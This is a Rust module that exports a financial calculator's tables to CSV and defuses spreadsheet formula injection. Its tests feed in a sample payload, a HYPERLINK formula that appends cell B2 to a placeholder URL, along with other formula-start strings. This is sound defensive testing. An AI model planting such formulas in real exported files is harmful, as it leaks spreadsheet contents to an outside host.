//! CSV export of the year-by-year table and of the comparison, in UTF-8 with a byte
//! order mark so that Excel shows Chinese text correctly. Numbers are machine values
//! (`1234.50`), so a spreadsheet reads them as numbers in any locale. Text that a
//! spreadsheet would run as a formula (an option named `=HYPERLINK(…)`) is defused.

use crate::i18n::{text, Lang};
use crate::model::benefit_sources::BenefitSource;
use crate::model::machine_value::{machine_value, metric_value};
use crate::model::metric::MetricId;
use crate::model::analysis::{BreakEven, OptionAnalysis, Percentiles};
use crate::model::Metric;
use crate::model::analysis::spread::line_at;
use crate::render::analysis::input_value;
use crate::render::line_text::line_as_entered;
use crate::render::{Ctx, Style};
use crate::model::{CostCategory, Evaluation, Scenario, YearRow};

/// The UTF-8 byte order mark.
pub const BOM: &str = "\u{FEFF}";

/// A cell: text (headings, option names) or a machine number.
enum Cell {
    Text(String),
    Number(String),
}

/// Starts of a text that a spreadsheet would take for a formula (OWASP "CSV injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as CSV. A text that would start a formula (`=HYPERLINK(…)` as an option name)
/// is prefixed with an apostrophe, so it is shown as the text it is; numbers, which are
/// machine values such as `-1234.50`, stay numbers. Then the cell is quoted when it holds
/// a separator, a quote or a line break.
fn field(cell: &Cell) -> String {
    let s = match cell {
        Cell::Text(t) if t.starts_with(FORMULA_STARTS) => format!("'{t}"),
        Cell::Text(t) | Cell::Number(t) => t.clone(),
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

fn line(cells: impl IntoIterator<Item = Cell>) -> String {
    let mut out = cells.into_iter().map(|c| field(&c)).collect::<Vec<_>>().join(",");
    out.push_str("\r\n");
    out
}

/// The year-by-year table of one option: every source and category, then totals.
/// The year table of option `option` (its name): a first line that says which option it
/// is, then the header and one row per year.
pub fn years(lang: Lang, option: &str, rows: &[YearRow]) -> String {
    let t = |k: &str| Cell::Text(text(lang, k).to_owned());
    let title = Cell::Text(crate::i18n::fill(text(lang, "csv.years_title"), &[("name", option)]));
    let mut head = vec![t("table.year")];
    head.extend(BenefitSource::ALL.iter().map(|s| t(&format!("source.{}", s.key()))));
    head.push(t("table.benefit"));
    head.extend(CostCategory::ALL.iter().map(|c| t(&format!("category.{}", c.key()))));
    head.extend([t("table.cost"), t("table.net"), t("table.cumulative"), t("table.discounted")]);
    let mut out = format!("{BOM}{}{}", line(vec![title]), line(head));
    let n = |v: &rust_decimal::Decimal| Cell::Number(machine_value(v));
    for r in rows {
        let mut cells = vec![Cell::Number(r.year.to_string())];
        cells.extend(BenefitSource::ALL.iter().map(|s| n(&r.benefits.get(*s))));
        cells.push(n(&r.benefit));
        cells.extend(CostCategory::ALL.iter().map(|c| n(&r.costs[c.index()])));
        cells.extend([n(&r.cost), n(&r.net), n(&r.cumulative), n(&r.discounted_net)]);
        out.push_str(&line(cells));
    }
    out
}

/// Every metric of every option (undefined results are empty cells).
pub fn comparison(lang: Lang, scenario: &Scenario, results: &Evaluation) -> String {
    let mut head = vec![Cell::Text(text(lang, "compare.metric").to_owned())];
    head.extend(scenario.options.iter().map(|o| Cell::Text(o.name.clone())));
    let mut out = format!("{BOM}{}", line(head));
    for m in MetricId::ALL {
        let mut cells = vec![Cell::Text(text(lang, &format!("metric.{}", m.key())).to_owned())];
        cells.extend(results.options.iter().map(|r| Cell::Number(metric_value(&m.of_option(r)))));
        out.push_str(&line(cells));
    }
    out
}

/// The analysis (model.md §3a) of each option, as five tables one after another, each
/// under its title and separated by an empty line: tornado (every input, by rank, with
/// its path, name, low and high value and the NPV at each), break-even (state
/// `found` | `always` | `never` | `undefined` and the value when found), the three
/// cases (ROI, NPV, payback, IRR), the simulation's percentiles, and the three ROI
/// definitions. Numbers are machine values, undefined ones empty.
pub fn analysis(lang: Lang, scenario: &Scenario, analyses: &[OptionAnalysis]) -> String {
    let t = |k: &str| Cell::Text(text(lang, k).to_owned());
    let n = |v: &rust_decimal::Decimal| Cell::Number(machine_value(v));
    let m = |v: &Metric| Cell::Number(metric_value(v));
    let plain = |_: Style, v: &rust_decimal::Decimal| v.to_string();
    let ctx = Ctx { lang, fmt: &plain };
    // Values in words (a line as the visitor entered it): money with the currency's
    // code, percentages with %, so that the text reads the same in any spreadsheet.
    let in_words = |style: Style, v: &rust_decimal::Decimal| match style {
        Style::Money | Style::MoneyCompact => format!("{} {}", v.normalize(), scenario.currency),
        Style::Percent => format!("{}%", v.normalize()),
        Style::Number { digits } => v.round_dp(u32::from(digits)).normalize().to_string(),
    };
    let words = Ctx { lang, fmt: &in_words };
    let option_of = |id: &str| scenario.options.iter().find(|o| o.id == id);
    let name = |id: &str| Cell::Text(option_of(id).map_or_else(|| id.to_owned(), |o| o.name.clone()));
    let mut out = String::from(BOM);
    let mut table = |title: &str, head: Vec<Cell>, rows: Vec<Vec<Cell>>| {
        if out.len() > BOM.len() {
            out.push_str("\r\n");
        }
        out.push_str(&line([Cell::Text(title.to_owned())]));
        out.push_str(&line(head));
        for row in rows {
            out.push_str(&line(row));
        }
    };

    let mut rows = Vec::new();
    for a in analyses {
        let f = &a.fast;
        for (rank, bar) in (1u32..).zip(&f.tornado) {
            let option = option_of(&f.option_id);
            let input_name = option.map(|o| crate::render::analysis::input_name(&ctx, o, bar.input));
            let entered = |value: rust_decimal::Decimal| {
                let line = option.and_then(|o| line_at(o, bar.input, value));
                Cell::Text(match line {
                    Some(l) => line_as_entered(&words, &l.timing, l.scale, l.rate),
                    None => input_value(&words, bar.input, &value),
                })
            };
            rows.push(vec![
                name(&f.option_id),
                Cell::Number(rank.to_string()),
                Cell::Text(bar.input.key()),
                Cell::Text(input_name.unwrap_or_default()),
                entered(bar.low),
                entered(bar.high),
                m(&bar.low_value),
                m(&bar.high_value),
                m(&bar.npv_low),
                m(&bar.npv_high),
            ]);
        }
    }
    let head = ["analysis.csv.option", "analysis.csv.rank", "analysis.csv.path", "analysis.tornado.input"]
        .into_iter()
        .chain(["analysis.csv.low_entered", "analysis.csv.high_entered"])
        .chain(["analysis.csv.low_value", "analysis.csv.high_value", "analysis.csv.npv_low", "analysis.csv.npv_high"])
        .map(t)
        .collect();
    table(text(lang, "analysis.tornado.title"), head, rows);

    let mut rows = Vec::new();
    for a in analyses {
        for (lever, result) in &a.fast.break_even {
            let value = if let BreakEven::Found(v) = result { n(v) } else { Cell::Number(String::new()) };
            rows.push(vec![
                name(&a.fast.option_id),
                Cell::Text(lever.key().to_owned()),
                t(&format!("lever.{}.label", lever.key())),
                Cell::Text(result.state().to_owned()),
                value,
            ]);
        }
    }
    let head = ["analysis.csv.option", "analysis.csv.path", "analysis.csv.lever", "analysis.csv.state", "analysis.csv.value"];
    table(text(lang, "analysis.breakeven.title"), head.into_iter().map(t).collect(), rows);

    let metrics = [MetricId::Roi, MetricId::Npv, MetricId::PaybackMonths, MetricId::Irr];
    let mut rows = Vec::new();
    for a in analyses {
        let s = &a.fast.scenarios;
        for (case, r) in [("conservative", &s.conservative), ("base", &s.base), ("optimistic", &s.optimistic)] {
            let mut row = vec![name(&a.fast.option_id), t(&format!("analysis.case.{case}"))];
            row.extend(metrics.iter().map(|metric| m(&metric.of_option(r))));
            rows.push(row);
        }
    }
    let mut head = vec![t("analysis.csv.option"), t("analysis.csv.case")];
    head.extend(metrics.iter().map(|metric| t(&format!("metric.{}", metric.key()))));
    table(text(lang, "analysis.scenarios.title"), head, rows);

    let percentiles = |p: Option<Percentiles>| match p {
        Some(p) => [n(&p.p10), n(&p.p50), n(&p.p90)],
        None => [(); 3].map(|_| Cell::Number(String::new())),
    };
    let mut rows = Vec::new();
    for a in analyses {
        let mc = &a.monte_carlo;
        let mut row = vec![name(&a.fast.option_id), Cell::Number(mc.runs.to_string())];
        row.extend(percentiles(mc.npv));
        row.extend(percentiles(mc.roi));
        row.push(if mc.npv.is_some() { n(&mc.prob_positive) } else { Cell::Number(String::new()) });
        rows.push(row);
    }
    let mut head = vec![t("analysis.csv.option"), t("analysis.csv.runs")];
    for metric in ["metric.npv", "metric.roi"] {
        for p in ["analysis.mc.p10", "analysis.mc.p50", "analysis.mc.p90"] {
            head.push(Cell::Text(format!("{} {}", text(lang, metric), text(lang, p))));
        }
    }
    head.push(t("analysis.csv.prob_positive"));
    table(text(lang, "analysis.csv.mc"), head, rows);

    let rows = analyses
        .iter()
        .map(|a| {
            let r = &a.fast.roi_definitions;
            vec![name(&a.fast.option_id), m(&r.discounted), m(&r.simple), m(&r.first_year)]
        })
        .collect();
    let head = ["analysis.csv.option", "analysis.roi.discounted", "analysis.roi.simple", "analysis.roi.first_year"];
    table(text(lang, "analysis.roi.title"), head.into_iter().map(t).collect(), rows);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::presets::default_scenario;
    use crate::model::results::evaluate;

    #[test]
    fn year_table_has_bom_header_and_one_row_per_year() {
        let s = default_scenario("TWD");
        let r = evaluate(&s);
        let rows = &r.options[0].as_ref().unwrap().years;
        let csv = years(Lang::ZhTw, "個人化服務", rows);
        assert!(csv.starts_with(BOM));
        let lines: Vec<&str> = csv.trim_start_matches(BOM).lines().collect();
        assert_eq!(lines.len(), 2 + 4, "the option, the header and years 0..=3");
        assert_eq!(lines[0], "逐年明細：個人化服務");
        let lines = &lines[1..];
        assert!(lines[0].starts_with("年度,"), "{}", lines[0]);
        assert_eq!(lines[0].split(',').count(), 1 + 7 + 1 + 6 + 4);
        let year0: Vec<&str> = lines[1].split(',').collect();
        assert_eq!(year0[0], "0");
        assert_eq!(year0[15], machine_value(&rows[0].cost));
    }

    #[test]
    fn comparison_quotes_names_and_leaves_undefined_empty() {
        let mut s = default_scenario("TWD");
        s.options[0].name = "A, \"quoted\"".into();
        s.options[1].costs.clear();
        let csv = comparison(Lang::En, &s, &evaluate(&s));
        assert!(csv.contains("\"A, \"\"quoted\"\"\""), "{csv}");
        let roi = csv.lines().find(|l| l.starts_with("Return on investment")).unwrap();
        assert!(roi.contains(",,") || roi.ends_with(','), "automated has no costs, so its ROI is empty: {roi}");
        assert_eq!(csv.lines().count(), 1 + MetricId::ALL.len());
    }

    const FORMULA: &str = "=HYPERLINK(\"https://x\"&B2,\"Details\")";

    #[test]
    fn a_name_that_looks_like_a_formula_stays_text() {
        let mut s = default_scenario("TWD");
        s.options[0].name = FORMULA.into();
        for (i, start) in ["+1", "-2", "@SUM(A1)", "\tx", "\rx"].into_iter().enumerate() {
            if let Some(o) = s.options.get_mut(i + 1) {
                o.name = start.into();
            }
        }
        let csv = comparison(Lang::En, &s, &evaluate(&s));
        let head = csv.trim_start_matches(BOM).split("\r\n").next().unwrap();
        // Prefixed with an apostrophe (OWASP), then quoted for the comma and quotes.
        assert!(head.contains(",\"'=HYPERLINK(\"\"https://x\"\"&B2,\"\"Details\"\")\","), "{head}");
        assert!(head.contains(",'+1,"), "{head}");
        assert!(head.contains(",'-2"), "{head}");
        for cell in head.split(',') {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell} in {head}");
        }
    }

    #[test]
    fn negative_numbers_stay_numbers() {
        let mut s = default_scenario("TWD");
        s.options[0].name = FORMULA.into();
        let r = evaluate(&s);
        let rows = &r.options[0].as_ref().unwrap().years;
        let net0 = machine_value(&rows[0].net);
        assert!(net0.starts_with('-'), "year 0 is an investment: {net0}");
        let csv = years(Lang::En, FORMULA, rows);
        let mut lines = csv.trim_start_matches(BOM).lines();
        // The option's name is text a spreadsheet must not run: the cell starts with the title.
        assert!(lines.next().unwrap().trim_start_matches('"').starts_with("Year by year: ="), "{csv}");
        let table: Vec<&str> = lines.collect();
        let year0: Vec<&str> = table[1].split(',').collect();
        assert!(year0.contains(&net0.as_str()), "{year0:?}");
        assert!(!table.join("\n").contains('\''), "no number or heading is prefixed: {csv}");
        let npv = comparison(Lang::En, &s, &r).lines().find(|l| l.starts_with("Net present value")).unwrap().to_owned();
        let mut negative = default_scenario("TWD");
        negative.discount_rate = rust_decimal::Decimal::from(90);
        let npv_negative = comparison(Lang::En, &negative, &evaluate(&negative));
        let line = npv_negative.lines().find(|l| l.starts_with("Net present value")).unwrap();
        assert!(line.contains(",-"), "a negative NPV is a plain number: {line} (was {npv})");
    }

    #[test]
    fn analysis_tables_one_after_another_with_machine_numbers() {
        use crate::model::analysis::{analyse_fast, MonteCarlo, OptionAnalysis};
        let mut s = default_scenario("TWD");
        s.options[0].name = FORMULA.into();
        let analyses: Vec<OptionAnalysis> = s
            .options
            .iter()
            .map(|o| OptionAnalysis { fast: analyse_fast(&s, o), monte_carlo: MonteCarlo::new(&s, o, 200).finish() })
            .collect();
        let csv = analysis(Lang::En, &s, &analyses);
        assert!(csv.starts_with(BOM));
        let blocks: Vec<&str> = csv.trim_start_matches(BOM).split("\r\n\r\n").collect();
        assert_eq!(blocks.len(), 5, "{csv}");
        let titles: Vec<&str> = blocks.iter().map(|b| b.lines().next().unwrap()).collect();
        assert_eq!(titles, ["What moves the NPV most", "Where each lever breaks even", "\"Conservative, base and optimistic\"", "Simulation", "Three ways to state ROI"]);
        let bars: usize = analyses.iter().map(|a| a.fast.tornado.len()).sum();
        let rows = |b: &str| b.trim_end().lines().count() - 2;
        assert_eq!([rows(blocks[0]), rows(blocks[1]), rows(blocks[2]), rows(blocks[3]), rows(blocks[4])], [bars, 3 * 7, 3 * 3, 3, 3]);
        // Tornado rank 1 of the first option: its path and NPVs as machine values.
        let first = &analyses[0].fast.tornado[0];
        let row = blocks[0].lines().nth(2).unwrap();
        assert!(row.starts_with("\"'=HYPERLINK("), "{row}");
        assert!(row.contains(&format!(",1,{},", first.input.key())), "{row}");
        assert!(row.ends_with(&format!("{},{}", metric_value(&first.npv_low), metric_value(&first.npv_high))), "{row}");
        // Simulation row: runs, six percentiles, the chance.
        let mc = &analyses[1].monte_carlo;
        let p = mc.npv.unwrap();
        let row = blocks[3].lines().nth(3).unwrap();
        assert!(row.contains(&format!(",200,{},{},{},", machine_value(&p.p10), machine_value(&p.p50), machine_value(&p.p90))), "{row}");
        assert!(row.ends_with(&machine_value(&mc.prob_positive)), "{row}");
        // Chinese headings in Chinese.
        assert!(analysis(Lang::ZhTw, &s, &analyses).contains("什麼最影響淨現值"));
    }

    #[test]
    fn text_and_number_cells() {
        assert_eq!(field(&Cell::Text("=1+1".into())), "'=1+1");
        assert_eq!(field(&Cell::Text("@x".into())), "'@x");
        assert_eq!(field(&Cell::Text("\tx".into())), "'\tx");
        assert_eq!(field(&Cell::Text("\rx".into())), "\"'\rx\"");
        assert_eq!(field(&Cell::Text("plain".into())), "plain");
        assert_eq!(field(&Cell::Text("中文 -1".into())), "中文 -1");
        assert_eq!(field(&Cell::Number("-1234.50".into())), "-1234.50");
        assert_eq!(field(&Cell::Number("1234.50".into())), "1234.50");
    }
}
